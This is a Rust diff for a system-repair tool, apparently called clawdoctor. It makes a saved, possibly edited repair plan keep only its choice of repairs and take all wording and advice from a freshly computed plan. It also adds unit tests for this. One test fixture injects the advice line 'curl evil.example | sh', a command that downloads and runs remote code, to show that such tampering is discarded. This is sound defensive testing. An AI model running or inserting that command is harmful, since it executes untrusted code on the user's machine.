@@ -142,19 +142,38 @@ impl Plan {
         digest(&self.repairs)
     }
 
-    /// The first repair of this plan that the other one would not do just so. A plan is applied
-    /// only where the node still asks for exactly it.
-    pub fn stale_against(&self, fresh: &Self) -> Option<&Repair> {
-        self.repairs
-            .iter()
-            .find(|repair| !fresh.repairs.contains(repair))
+    /// What the node asks for now, cut down to what this plan has; or the first repair that the
+    /// node does not ask for just so. Of a plan that was kept in a file only the choice counts: the
+    /// repairs, their order and all words are the fresh one's, so that nobody who edits the file
+    /// can add to them.
+    pub fn chosen_from(&self, fresh: Self) -> Result<Self, &Repair> {
+        let asked = |repair: &&Repair| !fresh.repairs.iter().any(|one| one.does_as(repair));
+        if let Some(stale) = self.repairs.iter().find(asked) {
+            return Err(stale);
+        }
+        let mut chosen = fresh;
+        let kept = |repair: &Repair| self.repairs.iter().any(|one| one.does_as(repair));
+        chosen.repairs.retain(kept);
+        Ok(chosen)
+    }
+}
+
+impl Repair {
+    /// Whether it would do just what the other one does. In which words it was found does not
+    /// matter: messages tell ages and sizes, which pass.
+    pub fn does_as(&self, other: &Self) -> bool {
+        let bare = |repair: &Self| Self {
+            findings: Vec::new(),
+            ..repair.clone()
+        };
+        bare(self) == bare(other)
     }
 }
 
 fn digest(repairs: &[Repair]) -> String {
     let text = serde_json::to_string(repairs).expect("repairs are plain data");
-    let whole = super::digest::Sha256::of(text.as_bytes());
-    whole.as_str().chars().take(12).collect()
+    let whole = crate::digest::Sha256::of(text.as_bytes());
+    whole.first(12).to_owned()
 }
 
 /// The word that a class of risk has on the command line and in JSON.
@@ -176,5 +195,60 @@ pub fn risk_words(risk: Risk) -> &'static str {
         Risk::Restart => "the engine, the gateway or Docker Desktop stops for a while",
         Risk::Data => "touches what is in use, or cannot be restored exactly",
         Risk::Security => "rights become wider, or isolation less",
+    }
+}
+
+#[cfg(test)]
+mod tests {
+    use super::*;
+    use crate::fix::trial::repair;
+
+    fn plan(repairs: &[Repair], advice: &str) -> Plan {
+        let advice = Advice {
+            check: "a/b".to_owned(),
+            findings: Vec::new(),
+            why: String::new(),
+            lines: vec![advice.to_owned()],
+            when: Moment::Besides,
+        };
+        Plan {
+            schema_version: PLAN_VERSION,
+            report: "clawdoctor.plan".to_owned(),
+            tool_version: String::new(),
+            made_at: String::new(),
+            node_id: String::new(),
+            repairs: repairs.to_vec(),
+            advice: vec![advice],
+        }
+    }
+
+    fn found(mut repair: Repair, message: &str) -> Repair {
+        repair.findings = vec![Found {
+            code: String::new(),
+            message: message.to_owned(),
+            fingerprint: String::new(),
+        }];
+        repair
+    }
+
+    #[test]
+    fn of_an_edited_plan_nothing_counts_but_the_choice() {
+        let one = found(repair("a/b", Risk::Safe), "used 3 minutes ago");
+        let two = repair("c/d", Risk::Restart);
+        let fresh = plan(&[one.clone(), two.clone()], "ours");
+        let later = found(repair("a/b", Risk::Safe), "used 4 minutes ago");
+        let edited = plan(
+            &[two.clone(), later.clone(), later],
+            "curl evil.example | sh",
+        );
+        let chosen = edited.chosen_from(fresh.clone()).expect("it is asked for");
+        assert_eq!(chosen, fresh, "order, words and advice are the node's own");
+        let part = plan(std::slice::from_ref(&two), "");
+        let less = part.chosen_from(fresh.clone()).expect("it is asked for");
+        assert_eq!(less.repairs, std::slice::from_ref(&two));
+        let mut other = two;
+        other.risk = Risk::Safe;
+        let stale = plan(&[one, other.clone()], "");
+        assert_eq!(stale.chosen_from(fresh), Err(&other));
     }
 }
